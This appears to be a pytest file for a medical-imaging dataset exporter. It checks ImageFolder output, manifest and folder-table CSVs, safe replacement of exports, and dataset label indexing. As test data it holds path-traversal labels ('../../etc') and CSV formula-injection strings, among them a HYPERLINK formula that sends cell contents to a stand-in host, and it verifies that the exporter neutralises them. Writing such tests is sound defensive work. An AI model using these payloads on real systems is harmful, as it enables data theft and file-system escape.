"""Export (ImageFolder folders, manifest.csv, the folder swap) and StoreDataset over store versions."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import numpy as np
import pytest
import torch
from PIL import Image

from medvae.data.dataset import StoreDataset
from medvae.data.export import EXPORT_FORMAT, MANIFEST_COLUMNS, export, folder_table, neutralise
from medvae.data.store import Store, empty_rows, lineage, to_arrow


def _store(tmp_path: Path, labels: list[str | None] | None = None, name: str = "store") -> Store:
    s = Store(tmp_path / name)
    buf = empty_rows()
    rng = np.random.default_rng(0)
    for i, label in enumerate(labels if labels is not None else ["normal", "normal", "../../etc", None]):
        buf["id"].append(f"id{i}")
        buf["height"].append(64)
        buf["width"].append(64)
        buf["pixels"].append(rng.integers(0, 256, (64, 64), dtype=np.uint8).tobytes())
        buf["origin"].append("real")
        buf["label"].append(label)
        buf["split"].append("train")
        buf["anomaly_score"].append(float(i) if i < 2 else None)
    s.insert_new(to_arrow(buf), lineage("ingest", {}))
    return s


def _manifest(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_export_imagefolder_and_manifest(tmp_path: Path) -> None:
    s = _store(tmp_path)
    out = tmp_path / "export"
    manifest = export(s, out)
    rows = _manifest(manifest)
    assert sorted(r["id"] for r in rows) == ["id0", "id1", "id2", "id3"]
    by_id = {r["id"]: r for r in rows}
    assert by_id["id0"]["path"] == "normal/id0.png" and by_id["id0"]["anomaly_score"] == "0"
    assert by_id["id3"]["path"] == "unlabelled/id3.png" and by_id["id3"]["anomaly_score"] == ""
    # A hostile label cannot escape the export folder.
    assert ".." not in by_id["id2"]["path"] and (out / by_id["id2"]["path"]).resolve().is_relative_to(
        out.resolve()
    )
    img = np.asarray(Image.open(out / by_id["id1"]["path"]))
    table = s.read(where={"label": "normal"})
    want = dict(zip(table.column("id").to_pylist(), table.column("pixels").to_pylist(), strict=True))
    assert img.tobytes() == want["id1"]  # lossless round trip
    marker = json.loads((out / "export.json").read_text())
    assert marker == {"format": EXPORT_FORMAT, "store": s.uri, "version": 0, "rows": 4}


def test_imagefolder_sees_exactly_the_manifest_rows(tmp_path: Path) -> None:
    from torchvision.datasets import ImageFolder

    out = tmp_path / "export"
    export(_store(tmp_path, ["normal", "Normal", "..", ".", "", None, "=cmd"]), out)
    rows = _manifest(out / "manifest.csv")
    found = ImageFolder(str(out))
    assert len(found) == len(rows) == 7
    assert sorted(Path(p).relative_to(out).as_posix() for p, _ in found.samples) == sorted(
        r["path"] for r in rows
    )
    # A second export of a smaller version replaces the first whole: nothing of it lingers.
    export(_store(tmp_path, ["pneumonia"], name="small"), out)
    found = ImageFolder(str(out))
    assert [Path(p).relative_to(out).as_posix() for p, _ in found.samples] == ["pneumonia/id0.png"]
    assert len(_manifest(out / "manifest.csv")) == 1
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no build folder left


def test_replacing_an_export_without_an_atomic_exchange(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import medvae.data.export as export_module

    monkeypatch.setattr(export_module, "_exchange", lambda a, b: False)  # as on macOS or an old glibc
    out = tmp_path / "export"
    export(_store(tmp_path), out)
    export(_store(tmp_path, ["pneumonia"], name="small"), out)
    assert sorted(p.name for p in out.iterdir()) == [
        "export.json",
        "folders.csv",
        "manifest.csv",
        "pneumonia",
    ]
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def test_distinct_labels_never_share_a_folder() -> None:
    labels = ["..", ".", "", None, "a b", "a_b", "Normal", "normal", "unlabelled", "-1", "1", "label"]
    table = folder_table(labels)
    assert len(set(table.values())) == len(labels)
    assert len({f.casefold() for f in table.values()}) == len(labels)  # also on case-insensitive disks
    for folder in table.values():
        assert folder not in {"", ".", ".."} and "/" not in folder and not folder.startswith(("-", "."))
    # Safe labels keep their names; the others get a stable digest, whatever the other labels are.
    assert table["a_b"] == "a_b" and table["Normal"] == "Normal" and table["unlabelled"] == "unlabelled"
    assert table["1"] == "1" and table["-1"] != "1"
    assert folder_table(["..", "x"])[".."] == table[".."]


def test_folder_table_is_written(tmp_path: Path) -> None:
    out = tmp_path / "export"
    export(_store(tmp_path, ["..", ".", "", None, "normal"]), out)
    with (out / "folders.csv").open(newline="", encoding="utf-8") as fh:
        table = list(csv.DictReader(fh))
    assert len(table) == 5 and len({r["folder"] for r in table}) == 5
    assert {r["folder"] for r in table} == {p.name for p in out.iterdir() if p.is_dir()}
    assert all(r["rows"] == "1" for r in table)


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_manifest_neutralises_formula_prefixes(tmp_path: Path, prefix: str) -> None:
    label = f'{prefix}HYPERLINK("http://x.example/?"&A1,"click")'
    out = tmp_path / "export"
    export(_store(tmp_path, [label]), out)
    (row,) = _manifest(out / "manifest.csv")
    assert row["label"] == "'" + label
    for field in MANIFEST_COLUMNS:
        assert not row[field].startswith(("=", "+", "-", "@", "\t", "\r")), field
    assert (out / row["path"]).is_file()  # paths are never altered: folder names never start so
    with (out / "folders.csv").open(newline="", encoding="utf-8") as fh:
        (entry,) = list(csv.DictReader(fh))
    assert entry["label"] == "'" + label


def test_neutralise() -> None:
    assert neutralise("=1+1") == "'=1+1" and neutralise("-2") == "'-2" and neutralise("normal") == "normal"
    assert neutralise("") == "" and neutralise("a=b") == "a=b"


def test_export_refuses_a_folder_that_is_not_an_export(tmp_path: Path) -> None:
    s = _store(tmp_path)
    home = tmp_path / "home"
    home.mkdir()
    (home / "thesis.tex").write_text("years of work")
    with pytest.raises(ValueError, match="not empty and holds no medvae export"):
        export(s, home)
    assert (home / "thesis.tex").read_text() == "years of work" and len(list(home.iterdir())) == 1
    (tmp_path / "file").write_text("x")
    with pytest.raises(ValueError, match="is a file"):
        export(s, tmp_path / "file")
    # An empty folder and an earlier export are fine; the earlier export's stray files go.
    empty = tmp_path / "empty"
    empty.mkdir()
    export(s, empty)
    (empty / "normal" / "stray.png").write_bytes(b"x")
    export(s, empty)
    assert not (empty / "normal" / "stray.png").exists()


def test_export_writes_a_local_folder_only(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="local folder"):
        export(_store(tmp_path), "s3://bucket/export")


def test_dataset_reads_any_version(tmp_path: Path) -> None:
    s = _store(tmp_path)
    extra = empty_rows()
    extra.update(
        id=["syn"], height=[64], width=[64], pixels=[bytes(4096)], origin=["synthetic"], label=["normal"]
    )
    s.insert_new(to_arrow(extra), lineage("augment", {}))
    ds0 = StoreDataset(str(tmp_path / "store"), version=0)
    ds1 = StoreDataset(str(tmp_path / "store"))
    assert len(ds0) == 4 and len(ds1) == 5 and ds1.version == 1 and ds0.version == 0
    x, y = ds1[0]
    assert y in (-1, 0, 1)
    assert tuple(x.shape) == (1, 64, 64) and 0.0 <= float(x.min()) <= float(x.max()) <= 1.0
    # The label list is the version's, whatever the filter: "normal" keeps its index.
    syn = StoreDataset(str(tmp_path / "store"), where={"origin": "synthetic"})
    assert len(syn) == 1 and syn.label_names == ["../../etc", "normal"] and syn[0][1] == 1


def test_dataset_label_indices_do_not_depend_on_the_filter(tmp_path: Path) -> None:
    s = _store(tmp_path, ["b", "a", "c", None, "b"])
    uri = str(tmp_path / "store")
    only_b = StoreDataset(uri, where={"id": "id0"})
    everything = StoreDataset(uri)
    assert only_b.label_names == everything.label_names == ["a", "b", "c"]
    assert only_b[0][1] == everything[0][1] == 1
    assert [everything[i][1] for i in range(len(everything))] == [
        ["a", "b", "c"].index(lbl) if lbl else -1 for lbl in s.read().column("label").to_pylist()
    ]
    # Set by the caller (e.g. from a model's meta.json): that order, and a label outside it is an error.
    fixed = StoreDataset(uri, label_names=["c", "b", "a"])
    assert [fixed.targets[i] for i in range(3)] == [1, 2, 0]
    with pytest.raises(ValueError, match="not in label_names: 'c'"):
        StoreDataset(uri, label_names=["a", "b"])


def test_dataset_where_accepts_lists(tmp_path: Path) -> None:
    s = _store(tmp_path)
    extra = empty_rows()
    extra.update(
        id=["syn"], height=[64], width=[64], pixels=[bytes(4096)], origin=["synthetic"], label=["normal"]
    )
    s.insert_new(to_arrow(extra), lineage("augment", {}))
    uri = str(tmp_path / "store")
    both = StoreDataset(uri, where={"origin": ["real", "synthetic"]})
    assert len(both) == 5 and sorted(set(both.origins)) == ["real", "synthetic"]
    some = StoreDataset(uri, where={"id": ["id1", "syn"], "origin": ["synthetic"]})
    assert some.ids == ["syn"] and isinstance(some[0][0], torch.Tensor)
